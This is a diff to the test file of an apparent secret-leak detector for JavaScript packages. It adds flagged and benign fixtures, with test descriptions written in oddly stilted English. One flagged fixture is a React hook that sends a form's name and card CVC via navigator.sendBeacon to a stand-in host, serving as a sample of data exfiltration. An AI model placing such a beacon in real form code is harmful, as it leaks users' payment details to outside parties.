@@ -138,6 +138,13 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'the state of a form is called by how React calls such, and nothing at first',
+      files: {
+        'index.js': `const { useRef } = require('react'); exports.useCard = () => { const formRef = useRef({ name: '', cvc: null }); return { formRef, tell: () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(formRef.current)) }; };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -161,7 +168,7 @@ examine(givesAwaySecrets, {
     {
       when: 'the errors of a form are told, of which there are none at first',
       files: {
-        'index.mjs': `import { useState } from 'react'; export const useForm = () => { const [found, setFound] = useState({ cardNumber: null, cvc: undefined }); return { setFound, tell: () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(found)) }; };`,
+        'index.mjs': `import { useState } from 'react'; export const useForm = () => { const [errors, setErrors] = useState({ cardNumber: null, cvc: undefined }); return { setErrors, tell: () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(errors)) }; };`,
       },
     },
     {
@@ -199,6 +206,25 @@ examine(givesAwaySecrets, {
       files: {
         'package.json': { name: 'acme-login', version: '1.0.0', main: 'index.js' },
         'index.js': `exports.refresh = ({ refresh_token, client_secret }) => fetch('https://login.acme.invalid/token', { method: 'POST', body: JSON.stringify({ refresh_token, client_secret }) });`,
+      },
+    },
+    {
+      when: 'the kind of a login is counted, and events are called after cards and tokens',
+      files: {
+        'index.js': `exports.granted = grant => { if (['password', 'refresh_token'].includes(grant)) navigator.sendBeacon('https://stat.invalid/', 'login'); }; const EVENTS = ['card_played', 'token_won', 'turn_passed']; exports.event = (name, more) => { if (EVENTS.includes(name)) navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ name, more })); };`,
+      },
+    },
+    {
+      when: 'a service is logged in to, or the one that its user has',
+      files: {
+        'package.json': { name: 'notebird', version: '1.0.0', main: 'index.js' },
+        'index.js': `exports.login = async ({ user, password, server }) => { const body = JSON.stringify({ user, password }); if (server) return (await fetch(new URL('/api/login', server), { method: 'POST', body })).json(); return (await fetch('https://cloud.notebird.invalid/api/login', { method: 'POST', body })).json(); };`,
+      },
+    },
+    {
+      when: 'one member of what an action brings is counted',
+      files: {
+        'index.js': `exports.middleware = store => next => action => { if (action.type === 'cart/add') navigator.sendBeacon('https://stat.invalid/', action.payload.sku); return next(action); };`,
       },
     },
   ],
